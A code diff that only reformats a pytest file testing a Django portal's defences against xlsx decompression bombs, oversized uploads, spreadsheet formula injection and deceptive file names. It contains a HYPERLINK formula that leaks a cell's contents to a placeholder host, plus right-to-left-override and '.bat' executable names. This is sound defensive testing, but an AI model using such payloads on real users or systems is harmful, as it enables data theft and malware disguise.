@@ -42,15 +42,27 @@ XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 def _subprocess(script: str, *args) -> dict:
     """Runs ``script`` in a fresh Python with Django set up; it prints one JSON line."""
-    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "zi_portal.settings", "PYTHONPATH": str(ROOT),
-           "SECRET_KEY": "hostile-files-test-only-" + "k" * 40}
-    done = subprocess.run([sys.executable, "-c", textwrap.dedent(script), *map(str, args)], cwd=ROOT, env=env,
-                          capture_output=True, text=True, timeout=600, check=False)
+    env = {
+        **os.environ,
+        "DJANGO_SETTINGS_MODULE": "zi_portal.settings",
+        "PYTHONPATH": str(ROOT),
+        "SECRET_KEY": "hostile-files-test-only-" + "k" * 40,
+    }
+    done = subprocess.run(
+        [sys.executable, "-c", textwrap.dedent(script), *map(str, args)],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=600,
+        check=False,
+    )
     assert done.returncode == 0, done.stderr[-3000:]
     return json.loads(done.stdout.strip().splitlines()[-1])
 
 
 # --- 1. xlsx decompression bombs and malformed workbooks ------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def bomb_path(tmp_path_factory):
@@ -101,7 +113,9 @@ READERS_IN_A_SUBPROCESS = """
 @pytest.mark.parametrize("reader", ["lke", "instrument", "units"])
 def test_xlsx_bomb_is_refused_by_every_reader_with_bounded_memory(bomb_path, reader):
     result = _subprocess(READERS_IN_A_SUBPROCESS, bomb_path, reader)
-    assert result["growth_kb"] < GROWTH_LIMIT_KB, f"peak memory grew {result['growth_kb'] // 1024} MB"
+    assert result["growth_kb"] < GROWTH_LIMIT_KB, (
+        f"peak memory grew {result['growth_kb'] // 1024} MB"
+    )
     assert any("terlalu besar setelah diekstrak" in e for e in result["errors"]), result["errors"]
 
 
@@ -112,17 +126,32 @@ def page_bomb():
 
 def _lke_import(client, assessment, raw, name="lke.xlsx"):
     url = reverse("reports:lke_xlsx", args=[assessment.pk])
-    return client.post(url, {"track": "self", "file": SimpleUploadedFile(name, raw, content_type=XLSX), "import": "1"})
+    return client.post(
+        url,
+        {"track": "self", "file": SimpleUploadedFile(name, raw, content_type=XLSX), "import": "1"},
+    )
 
 
 def _instrument_import(client, pemda, raw):
-    return client.post(reverse("assessments:instrument_import"), {
-        "pemda": pemda.pk, "file": SimpleUploadedFile("instrumen.xlsx", raw, content_type=XLSX), "import": "1"})
+    return client.post(
+        reverse("assessments:instrument_import"),
+        {
+            "pemda": pemda.pk,
+            "file": SimpleUploadedFile("instrumen.xlsx", raw, content_type=XLSX),
+            "import": "1",
+        },
+    )
 
 
 def _unit_import(client, pemda, raw):
-    return client.post(reverse("units:import"), {
-        "pemda": pemda.pk, "file": SimpleUploadedFile("unit.xlsx", raw, content_type=XLSX), "import": "1"})
+    return client.post(
+        reverse("units:import"),
+        {
+            "pemda": pemda.pk,
+            "file": SimpleUploadedFile("unit.xlsx", raw, content_type=XLSX),
+            "import": "1",
+        },
+    )
 
 
 def _send_to_every_import(w, login, raw):
@@ -132,7 +161,11 @@ def _send_to_every_import(w, login, raw):
     admin = login(w["users"]["inspektorat_admin"])
     instrument = _instrument_import(admin, w["pemda"]["own"], raw)
     units = _unit_import(admin, w["pemda"]["own"], raw)
-    unchanged = counts == (Answer.objects.count(), Instrument.objects.count(), WorkUnit.objects.count())
+    unchanged = counts == (
+        Answer.objects.count(),
+        Instrument.objects.count(),
+        WorkUnit.objects.count(),
+    )
     return {"lke": lke, "instrument": instrument, "units": units}, unchanged
 
 
@@ -140,7 +173,9 @@ def _page_text(response) -> str:
     return response.content.decode().replace("&#x27;", "'")
 
 
-def test_bomb_sent_to_every_import_page_gets_a_clear_refusal_and_nothing_is_saved(w, login, page_bomb):
+def test_bomb_sent_to_every_import_page_gets_a_clear_refusal_and_nothing_is_saved(
+    w, login, page_bomb
+):
     responses, unchanged = _send_to_every_import(w, login, page_bomb)
     for name, response in responses.items():
         assert response.status_code in (200, 400), name
@@ -222,16 +257,24 @@ UPLOAD_IN_A_SUBPROCESS = """
 
 
 def test_evidence_upload_of_a_200_mib_part_without_newlines_keeps_memory_bounded():
-    result = _subprocess(UPLOAD_IN_A_SUBPROCESS, "file_part_without_newlines", 200 * hostile.MiB, "evidence")
+    result = _subprocess(
+        UPLOAD_IN_A_SUBPROCESS, "file_part_without_newlines", 200 * hostile.MiB, "evidence"
+    )
     assert result["too_large"] == "besar.pdf" and result["files"] == 0
-    assert result["growth_kb"] < GROWTH_LIMIT_KB, f"peak memory grew {result['growth_kb'] // 1024} MB"
+    assert result["growth_kb"] < GROWTH_LIMIT_KB, (
+        f"peak memory grew {result['growth_kb'] // 1024} MB"
+    )
 
 
 def test_any_stopped_upload_discards_the_rest_of_the_body_without_reading_it_by_lines():
     # Django reads what is left of a stopped upload line by line; RequestBodyLimits bounds a line.
-    result = _subprocess(UPLOAD_IN_A_SUBPROCESS, "file_part_without_newlines", 200 * hostile.MiB, "stopping")
+    result = _subprocess(
+        UPLOAD_IN_A_SUBPROCESS, "file_part_without_newlines", 200 * hostile.MiB, "stopping"
+    )
     assert result["files"] == 0
-    assert result["growth_kb"] < GROWTH_LIMIT_KB, f"peak memory grew {result['growth_kb'] // 1024} MB"
+    assert result["growth_kb"] < GROWTH_LIMIT_KB, (
+        f"peak memory grew {result['growth_kb'] // 1024} MB"
+    )
 
 
 class UnreadableBody:
@@ -244,13 +287,19 @@ class UnreadableBody:
 
 
 def _multipart_unread(client, url, length):
-    return client.post(url, data=b"x", content_type=f"multipart/form-data; boundary={hostile.BOUNDARY}",
-                       **{"wsgi.input": UnreadableBody(), "CONTENT_LENGTH": str(length)})
+    return client.post(
+        url,
+        data=b"x",
+        content_type=f"multipart/form-data; boundary={hostile.BOUNDARY}",
+        **{"wsgi.input": UnreadableBody(), "CONTENT_LENGTH": str(length)},
+    )
 
 
 @pytest.mark.parametrize("role", ["leadership", "tpn_observer", "evaluator"])
 def test_read_only_roles_get_403_from_the_evidence_api_before_the_body_is_read(w, api, role):
-    response = _multipart_unread(api(w["users"][role]), reverse("api:evidence-list"), 10 * hostile.MiB)
+    response = _multipart_unread(
+        api(w["users"][role]), reverse("api:evidence-list"), 10 * hostile.MiB
+    )
     assert response.status_code == 403
     assert response.json()["code"] == "permission_denied"
 
@@ -258,14 +307,21 @@ def test_read_only_roles_get_403_from_the_evidence_api_before_the_body_is_read(w
 def test_read_only_role_gets_403_from_the_upload_page_before_the_body_is_read(w, login):
     question = w["q"]["PEM-MP-01.a"]
     url = reverse("evidence:upload", args=[w["assessments"]["own"].pk, question.pk])
-    assert _multipart_unread(login(w["users"]["leadership"]), url, 10 * hostile.MiB).status_code == 403
+    assert (
+        _multipart_unread(login(w["users"]["leadership"]), url, 10 * hostile.MiB).status_code == 403
+    )
 
 
 def test_body_over_the_limit_is_refused_by_content_length_unread(w, api, login, settings):
     settings.EVIDENCE_MAX_BYTES = 25 * hostile.MiB
-    response = _multipart_unread(api(w["users"]["unit_operator"]), reverse("api:evidence-list"), 200 * hostile.MiB)
+    response = _multipart_unread(
+        api(w["users"]["unit_operator"]), reverse("api:evidence-list"), 200 * hostile.MiB
+    )
     assert response.status_code == 413
-    assert response.json()["code"] == "request_too_large" and "terlalu besar" in response.json()["detail"]
+    assert (
+        response.json()["code"] == "request_too_large"
+        and "terlalu besar" in response.json()["detail"]
+    )
     # Any other view: REQUEST_MAX_BYTES (the LKE import takes 5 MB files).
     url = reverse("reports:lke_xlsx", args=[w["assessments"]["own"].pk])
     response = _multipart_unread(login(w["users"]["unit_operator"]), url, 200 * hostile.MiB)
@@ -277,31 +333,50 @@ def test_page_upload_over_the_file_limit_still_answers_and_keeps_later_files(w, 
     question = w["q"]["PEM-MP-01.b"]
     big = SimpleUploadedFile("besar.pdf", pdf_bytes(pad=300 * 1024))
     small = SimpleUploadedFile("kecil.pdf", pdf_bytes("kecil"))
-    response = post_files(login(w["users"]["unit_operator"]), w["assessments"]["own"], question, big, small)
+    response = post_files(
+        login(w["users"]["unit_operator"]), w["assessments"]["own"], question, big, small
+    )
     assert "Berkas “besar.pdf” melebihi batas ukuran 64 KB" in response.content.decode()
-    assert list(EvidenceVersion.objects.filter(item__question=question).values_list("original_name", flat=True)) == [
-        "kecil.pdf"]
+    assert list(
+        EvidenceVersion.objects.filter(item__question=question).values_list(
+            "original_name", flat=True
+        )
+    ) == ["kecil.pdf"]
 
 
 # --- 3. formula injection in every xlsx and CSV the portal writes --------------------------------
+
 
 def _formula_cells(raw: bytes) -> list:
     """Every formula cell of a workbook, read from its XML (an <f> element) and by openpyxl."""
     found = []
     with zipfile.ZipFile(io.BytesIO(raw)) as zf:
         for name in zf.namelist():
-            if name.startswith("xl/worksheets/") and (b"<f>" in zf.read(name) or b"<f " in zf.read(name)):
+            if name.startswith("xl/worksheets/") and (
+                b"<f>" in zf.read(name) or b"<f " in zf.read(name)
+            ):
                 found.append(name)
     wb = openpyxl.load_workbook(io.BytesIO(raw))
     for ws in wb.worksheets:
-        found += [f"{ws.title}!{c.coordinate}" for row in ws.iter_rows() for c in row if c.data_type == "f"]
+        found += [
+            f"{ws.title}!{c.coordinate}"
+            for row in ws.iter_rows()
+            for c in row
+            if c.data_type == "f"
+        ]
     return found
 
 
 def _text_cells(raw: bytes) -> dict:
     """{text: cell} of every text cell."""
     wb = openpyxl.load_workbook(io.BytesIO(raw))
-    return {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    return {
+        c.value: c
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    }
 
 
 def _add_formula_links(w):
@@ -309,8 +384,13 @@ def _add_formula_links(w):
     assessment = w["assessments"]["own"]
     questions = [q for code, q in sorted(w["q"].items()) if code != "PEM-MP-01.a"]
     for i, (title, question) in enumerate(zip(hostile.FORMULAS, questions)):
-        evidence_services.add_link(assessment=assessment, question=question, url=f"https://jepara.go.id/bukti/{i}",
-                                   title=title, by=w["users"]["unit_operator"])
+        evidence_services.add_link(
+            assessment=assessment,
+            question=question,
+            url=f"https://jepara.go.id/bukti/{i}",
+            title=title,
+            by=w["users"]["unit_operator"],
+        )
     return assessment
 
 
@@ -319,9 +399,13 @@ def test_lke_xlsx_writes_evidence_titles_as_text(w):
     assert _formula_cells(raw) == []
     cells = _text_cells(raw)
     hyperlink = cells['=HYPERLINK("http://x?leak="&A2,"Bukti") — https://jepara.go.id/bukti/0']
-    assert hyperlink.data_type == "s" and hyperlink.quotePrefix  # stays text even after an edit in Excel
+    assert (
+        hyperlink.data_type == "s" and hyperlink.quotePrefix
+    )  # stays text even after an edit in Excel
     for i, title in enumerate(hostile.FORMULAS):
-        cell = cells[f"{title.strip()} — https://jepara.go.id/bukti/{i}"]  # titles are trimmed when saved
+        cell = cells[
+            f"{title.strip()} — https://jepara.go.id/bukti/{i}"
+        ]  # titles are trimmed when saved
         assert cell.data_type == "s" and cell.quotePrefix, repr(title)
 
 
@@ -333,14 +417,22 @@ def test_lke_xlsx_round_trip_keeps_formula_like_text_and_answers(w):
     wb = openpyxl.load_workbook(io.BytesIO(raw))
     ws = wb[answer_xlsx.SHEET]
     header = [c.value for c in ws[answer_xlsx.HEADER_ROW]]
-    row = next(r for r in ws.iter_rows(min_row=answer_xlsx.HEADER_ROW + 1) if r[0].value == "PEM-MP-01.a")
+    row = next(
+        r for r in ws.iter_rows(min_row=answer_xlsx.HEADER_ROW + 1) if r[0].value == "PEM-MP-01.a"
+    )
     row[header.index("mandiri")].value = "Ya"
     edited = io.BytesIO()
     wb.save(edited)
-    report = answer_xlsx.import_lke(assessment=assessment, track=Track.SELF, by=operator,
-                                 fileobj=SimpleUploadedFile("lke.xlsx", edited.getvalue(), content_type=XLSX))
+    report = answer_xlsx.import_lke(
+        assessment=assessment,
+        track=Track.SELF,
+        by=operator,
+        fileobj=SimpleUploadedFile("lke.xlsx", edited.getvalue(), content_type=XLSX),
+    )
     assert report.ok and report.saved == 1, [str(e) for e in report.errors]
-    read_back = openpyxl.load_workbook(io.BytesIO(raw), read_only=True, data_only=True)[answer_xlsx.SHEET]
+    read_back = openpyxl.load_workbook(io.BytesIO(raw), read_only=True, data_only=True)[
+        answer_xlsx.SHEET
+    ]
     cells = [v for r in read_back.iter_rows(values_only=True) for v in r if isinstance(v, str)]
     for i, title in enumerate(hostile.FORMULAS):  # exactly as saved: nothing added, nothing lost
         assert f"{title.strip()} — https://jepara.go.id/bukti/{i}" in cells, repr(title)
@@ -373,14 +465,22 @@ def test_unit_export_writes_unit_names_as_text_and_imports_back_unchanged(w, log
         assert cell.data_type == "s" and cell.quotePrefix, repr(name)
     before = dict(WorkUnit.objects.filter(pemda=pemda).values_list("code", "name"))
     response = _unit_import(client, pemda, raw)
-    assert response.status_code == 200 and response.context["report"].ok, response.context["report"].row_errors
+    assert response.status_code == 200 and response.context["report"].ok, response.context[
+        "report"
+    ].row_errors
     after = dict(WorkUnit.objects.filter(pemda=pemda).values_list("code", "name"))
     for i, name in enumerate(hostile.FORMULAS_WITHOUT_WHITESPACE):  # the import trims whitespace
-        assert after[f"F-{hostile.FORMULAS.index(name)}"] == before[f"F-{hostile.FORMULAS.index(name)}"] == name
+        assert (
+            after[f"F-{hostile.FORMULAS.index(name)}"]
+            == before[f"F-{hostile.FORMULAS.index(name)}"]
+            == name
+        )
 
 
 def _archive(w, assessment):
-    archive = evidence_services.request_archive(assessment=assessment, by=w["users"]["inspektorat_admin"])
+    archive = evidence_services.request_archive(
+        assessment=assessment, by=w["users"]["inspektorat_admin"]
+    )
     archive = evidence_services.build_archive(archive=EvidenceArchive.objects.get(pk=archive.pk))
     with default_storage.open(archive.file.name, "rb") as fh:
         return zipfile.ZipFile(io.BytesIO(fh.read()))
@@ -401,11 +501,20 @@ def test_evidence_archive_csv_writes_titles_as_text(w):
 
 # --- 4. names that hide what a file is ----------------------------------------------------------
 
-@pytest.mark.parametrize("sent,expected", hostile.DANGEROUS_NAMES, ids=[e for _s, e in hostile.DANGEROUS_NAMES])
-def test_file_is_stored_served_and_zipped_under_a_name_that_shows_what_it_is(w, api, login, sent, expected):
+
+@pytest.mark.parametrize(
+    "sent,expected", hostile.DANGEROUS_NAMES, ids=[e for _s, e in hostile.DANGEROUS_NAMES]
+)
+def test_file_is_stored_served_and_zipped_under_a_name_that_shows_what_it_is(
+    w, api, login, sent, expected
+):
     assessment, question = w["assessments"]["own"], w["q"]["PEM-MP-01.b"]
-    item = evidence_services.upload_file(assessment=assessment, question=question, by=w["users"]["unit_operator"],
-                                         uploaded_file=ContentFile(pdf_bytes(f"isi {expected}"), name=sent))
+    item = evidence_services.upload_file(
+        assessment=assessment,
+        question=question,
+        by=w["users"]["unit_operator"],
+        uploaded_file=ContentFile(pdf_bytes(f"isi {expected}"), name=sent),
+    )
     version = item.current_version
     assert (version.original_name, item.title) == (expected, expected)
     page = login(w["users"]["evaluator"]).get(reverse("evidence:download", args=[version.pk]))
@@ -418,14 +527,24 @@ def test_file_is_stored_served_and_zipped_under_a_name_that_shows_what_it_is(w, 
 
 def test_a_name_stored_before_names_were_made_safe_is_served_and_zipped_safe(w, login):
     item = w["items"]["own"]
-    EvidenceVersion.objects.filter(pk=item.current_version_id).update(original_name="laporan\u202efdp.exe")
-    page = login(w["users"]["evaluator"]).get(reverse("evidence:download", args=[item.current_version_id]))
+    EvidenceVersion.objects.filter(pk=item.current_version_id).update(
+        original_name="laporan\u202efdp.exe"
+    )
+    page = login(w["users"]["evaluator"]).get(
+        reverse("evidence:download", args=[item.current_version_id])
+    )
     assert page["Content-Disposition"] == 'attachment; filename="laporanfdp.exe.pdf"'
-    assert any(n.endswith("-laporanfdp.exe.pdf") for n in _archive(w, w["assessments"]["own"]).namelist())
+    assert any(
+        n.endswith("-laporanfdp.exe.pdf") for n in _archive(w, w["assessments"]["own"]).namelist()
+    )
 
 
 def test_page_upload_of_a_dangerous_name_is_stored_with_its_real_extension(w, login):
     question = w["q"]["PEM-MP-01.b"]
-    post_files(login(w["users"]["unit_operator"]), w["assessments"]["own"], question,
-               SimpleUploadedFile("laporan.bat", pdf_bytes("bat")))
+    post_files(
+        login(w["users"]["unit_operator"]),
+        w["assessments"]["own"],
+        question,
+        SimpleUploadedFile("laporan.bat", pdf_bytes("bat")),
+    )
     assert EvidenceVersion.objects.get(item__question=question).original_name == "laporan.bat.pdf"
